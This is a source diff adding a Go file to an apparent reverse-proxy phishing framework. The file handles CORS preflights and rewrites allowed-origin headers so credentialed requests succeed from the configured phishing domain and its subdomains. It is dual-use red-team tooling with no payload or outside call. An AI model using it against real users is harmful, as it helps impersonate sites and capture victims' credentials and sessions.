@@ -0,0 +1,142 @@
+package proxy
+
+import (
+	"fmt"
+	"net/http"
+	"net/url"
+	"regexp"
+	"strconv"
+	"strings"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+// corsOriginHeaders are the response headers allowing origins, always rewritten through the backward mapping
+var corsOriginHeaders = []string{"Access-Control-Allow-Origin", "Timing-Allow-Origin"}
+
+// crossOrigin is the CORS policy of the permissive paths, whose cross-origin requests between the proxied origins
+// are allowed whatever the target answers
+type crossOrigin struct {
+	phishing string
+	paths    []*regexp.Regexp
+	maxAge   int
+}
+
+// corsPolicy is the CORS policy shared by all the proxies
+var corsPolicy *crossOrigin
+
+// newCrossOrigin compiles the permissive paths defined in the configuration, nil if none
+func newCrossOrigin(sess *session.Session) (*crossOrigin, error) {
+	config := sess.Config.Transform.CORS
+	if len(config.Permissive) == 0 {
+		return nil, nil
+	}
+
+	c := &crossOrigin{phishing: sess.Config.Proxy.Phishing, maxAge: config.MaxAge}
+	for _, path := range config.Permissive {
+		re, err := regexp.Compile(path)
+		if err != nil {
+			return nil, fmt.Errorf("invalid permissive CORS path %s: %w", path, err)
+		}
+		c.paths = append(c.paths, re)
+	}
+
+	return c, nil
+}
+
+// Permits checks if the cross-origin requests to the path are allowed
+func (c *crossOrigin) Permits(path string) bool {
+	if c == nil {
+		return false
+	}
+
+	for _, re := range c.paths {
+		if re.MatchString(path) {
+			return true
+		}
+	}
+	return false
+}
+
+// allowedOrigin returns the origin if it is a proxied one, the phishing domain or any of its subdomains
+func (c *crossOrigin) allowedOrigin(origin string) string {
+	u, err := url.Parse(origin)
+	if err != nil || u.Host == "" {
+		return ""
+	}
+
+	host := strings.ToLower(u.Hostname())
+	if host != c.phishing && !strings.HasSuffix(host, "."+c.phishing) {
+		return ""
+	}
+	return origin
+}
+
+// Preflight answers the preflight requests to the permissive paths, returning true if answered.
+// The requested method and headers are allowed, with credentials, to any proxied origin.
+func (c *crossOrigin) Preflight(w http.ResponseWriter, r *http.Request) bool {
+	method := r.Header.Get("Access-Control-Request-Method")
+	if c == nil || r.Method != http.MethodOptions || method == "" || !c.Permits(r.URL.Path) {
+		return false
+	}
+
+	origin := c.allowedOrigin(r.Header.Get("Origin"))
+	if origin == "" {
+		return false
+	}
+
+	h := w.Header()
+	h.Set("Access-Control-Allow-Origin", origin)
+	h.Set("Access-Control-Allow-Credentials", "true")
+	h.Set("Access-Control-Allow-Methods", method)
+	if headers := r.Header.Get("Access-Control-Request-Headers"); headers != "" {
+		h.Set("Access-Control-Allow-Headers", headers)
+	}
+	if c.maxAge > 0 {
+		h.Set("Access-Control-Max-Age", strconv.Itoa(c.maxAge))
+	}
+	h.Add("Vary", "Origin")
+
+	w.WriteHeader(http.StatusNoContent)
+	return true
+}
+
+// configuredHeader checks if the header is listed in the configured headers to transform
+func configuredHeader(header string, headers []string) bool {
+	for _, h := range headers {
+		if strings.EqualFold(h, header) {
+			return true
+		}
+	}
+	return false
+}
+
+// rewriteCORS rewrites the origins allowed by the response, consistently with the Origin mapped in the request,
+// and allows the requesting origin, with credentials, on the permissive paths
+func rewriteCORS(sess *session.Session, replacer *Replacer, response *http.Response, base64 Base64) {
+	for _, header := range corsOriginHeaders {
+		value := response.Header.Get(header)
+		if value == "" || value == "*" || value == "null" || configuredHeader(header, sess.Config.Transform.Response.Headers) {
+			continue
+		}
+		response.Header.Set(header, replacer.Transform(value, false, base64))
+	}
+
+	if response.Request == nil || !corsPolicy.Permits(response.Request.URL.Path) {
+		return
+	}
+
+	origin := response.Request.Header.Get("Origin")
+	if origin == "" {
+		return
+	}
+	if origin = corsPolicy.allowedOrigin(replacer.Transform(origin, false, base64)); origin == "" {
+		return
+	}
+
+	response.Header.Set("Access-Control-Allow-Origin", origin)
+	response.Header.Set("Access-Control-Allow-Credentials", "true")
+	if !strings.Contains(strings.Join(response.Header.Values("Vary"), ","), "Origin") {
+		response.Header.Add("Vary", "Origin")
+	}
+}